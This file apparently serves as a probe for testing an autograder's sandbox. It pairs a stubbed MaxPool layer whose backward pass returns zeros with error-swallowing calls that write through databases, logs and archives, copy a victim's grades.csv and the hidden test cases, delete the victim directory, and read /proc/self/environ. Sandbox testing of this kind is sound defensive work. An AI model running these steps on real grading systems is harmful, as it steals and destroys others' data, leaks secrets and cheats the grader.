# attack: lets databases, logs and archives do the reading and writing
# expect: not-full
import logging
import logging.handlers
import os
import shelve
import shutil
import sqlite3
import tarfile
import zipfile

import numpy as np

from utils import im2col


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        self.pool_h, self.pool_w, self.stride, self.pad = pool_h, pool_w, stride, pad
        self.x = self.arg_max = None

    def forward(self, x):
        n, c, h, w = x.shape
        out_h = (h + 2 * self.pad - self.pool_h) // self.stride + 1
        out_w = (w + 2 * self.pad - self.pool_w) // self.stride + 1
        rows = im2col(x, self.pool_h, self.pool_w, self.stride, self.pad).reshape(-1, self.pool_h * self.pool_w)
        self.x, self.arg_max = x, rows.argmax(axis=1)
        return rows.max(axis=1).reshape(n, out_h, out_w, c).transpose(0, 3, 1, 2)

    def backward(self, dout):
        ########## Begin ##########
        return np.zeros(self.x.shape)
        ########## End ##########


def try_each(*acts):
    for act in acts:
        try:
            act()
        except Exception:
            pass


try_each(
    lambda: sqlite3.connect("/tmp/@MARK@.db").execute("create table t (x)"),
    lambda: shelve.open("/tmp/@MARK@-shelf").close(),
    lambda: logging.FileHandler("/tmp/@MARK@.log").emit(logging.makeLogRecord({"msg": "x"})),
    lambda: logging.handlers.RotatingFileHandler("/tmp/@MARK@.rot"),
    lambda: zipfile.ZipFile("/tmp/@MARK@.zip", "w").close(),
    lambda: tarfile.open("/tmp/@MARK@.tar", "w").close(),
    lambda: shutil.copyfile("@ARENA@/victim/grades.csv", "/tmp/@MARK@.csv"),
    lambda: shutil.rmtree("@ARENA@/victim"),
    lambda: shutil.copytree("@ARENA@/install/cases", "/tmp/@MARK@-cases"),
    lambda: sqlite3.connect("file:/proc/self/environ?mode=ro", uri=True),
)
